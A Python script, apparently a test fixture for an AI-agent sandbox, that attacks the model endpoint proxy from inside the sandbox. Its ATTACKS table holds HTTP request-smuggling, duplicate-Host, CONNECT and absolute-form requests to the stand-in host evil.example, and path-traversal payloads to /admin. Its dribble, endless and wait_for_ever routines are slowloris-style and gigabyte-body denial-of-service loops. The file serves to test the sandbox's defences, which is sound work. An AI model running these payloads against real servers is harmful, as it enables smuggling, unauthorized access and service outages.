"""Attacks the model's door from inside the sandbox; its prompt says whether it then ends. Standard library only."""

import contextlib
import json
import os
import socket
import sys
import threading
from urllib.parse import urlsplit

task = json.load(sys.stdin)
parts = urlsplit(os.environ["OPENAI_BASE_URL"])
PLACE = (parts.hostname, parts.port)
HOST = f"Host: {parts.netloc}\r\n".encode()
PATH = b"/v1/chat/completions"
BODY = b'{"model":"stub-model","temperature":0,"messages":[]}'
LENGTH = b"Content-Length: %d\r\n" % len(BODY)
CHUNKED = b"Transfer-Encoding: chunked\r\n"

ATTACKS = {
    "absolute form": (b"POST http://evil.example%b HTTP/1.1\r\n" % PATH + HOST + LENGTH, BODY),
    "absolute form of the endpoint": (
        b"POST http://%b/admin HTTP/1.1\r\n" % parts.netloc.encode() + HOST + LENGTH,
        BODY,
    ),
    "CONNECT": (b"CONNECT evil.example:443 HTTP/1.1\r\n" + HOST, b""),
    "another host": (b"POST %b HTTP/1.1\r\nHost: evil.example\r\n" % PATH + LENGTH, BODY),
    "two hosts": (b"POST %b HTTP/1.1\r\n" % PATH + HOST + b"Host: evil.example\r\n" + LENGTH, BODY),
    "length and chunks": (b"POST %b HTTP/1.1\r\n" % PATH + HOST + LENGTH + CHUNKED, b"0\r\n\r\n" + BODY),
    "a smuggled request": (
        b"POST %b HTTP/1.1\r\n" % PATH + HOST + CHUNKED,
        b"5\r\nhello0\r\n\r\nPOST /admin HTTP/1.1\r\n" + HOST + b"\r\n",
    ),
    "path traversal": (b"POST /v1/chat/completions/../../admin HTTP/1.1\r\n" + HOST + LENGTH, BODY),
    "encoded traversal": (b"POST /v1/%2e%2e/admin HTTP/1.1\r\n" + HOST + LENGTH, BODY),
    "another path": (b"POST /v1/files HTTP/1.1\r\n" + HOST + LENGTH, BODY),
    "an oversized header": (b"POST %b HTTP/1.1\r\n" % PATH + HOST + b"X: " + b"a" * 40000 + b"\r\n" + LENGTH, BODY),
    "a gigabyte": (b"POST %b HTTP/1.1\r\n" % PATH + HOST + b"Content-Length: 1073741824\r\n", b""),
}


def ask(head, body):
    """The status that comes back."""
    with socket.create_connection(PLACE, 300) as client:
        found = b""
        with contextlib.suppress(OSError):
            client.sendall(head + b"\r\n" + body)
        with contextlib.suppress(OSError):
            while b"\r\n" not in found and (piece := client.recv(4096)):
                found += piece
        return int(found.split(b" ")[1]) if found else 0


def dribble():
    """A head, a letter at a time."""
    while True:
        with socket.create_connection(PLACE) as client:
            try:
                client.sendall(b"POST %b HTTP/1.1\r\n" % PATH + HOST + b"X: ")
                while True:
                    client.sendall(b"a")
                    threading.Event().wait(0.2)
            except OSError:
                pass


def endless():
    """A body of a gigabyte in chunks, again and again."""
    chunk = b"100000\r\n%b\r\n" % bytes(1 << 20)
    while True:
        with socket.create_connection(PLACE) as client:
            try:
                client.sendall(b"POST %b HTTP/1.1\r\n" % PATH + HOST + CHUNKED + b"\r\n")
                for _ in range(1024):
                    client.sendall(chunk)
            except OSError:
                pass


def wait_for_ever():
    """A call that the endpoint never answers."""
    ask(b"POST %b HTTP/1.1\r\n" % PATH + HOST + LENGTH, BODY)


if "hold" in task["prompt"]:
    threads = [threading.Thread(target=each) for each in (dribble, dribble, endless, wait_for_ever)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
else:
    print(json.dumps({name: ask(*attack) for name, attack in ATTACKS.items()}))
